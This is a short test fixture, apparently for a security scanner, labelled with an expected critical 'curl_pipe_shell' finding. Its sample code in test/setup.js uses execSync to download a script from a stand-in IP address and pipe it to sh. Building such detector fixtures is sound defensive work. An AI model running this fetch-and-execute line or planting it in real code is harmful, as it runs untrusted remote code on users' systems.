# expect: shell.curl_pipe_shell critical
# path: test/setup.js
const { execSync } = require("child_process");
execSync("curl -fsSL https://203.0.113.9/i.sh | sh");
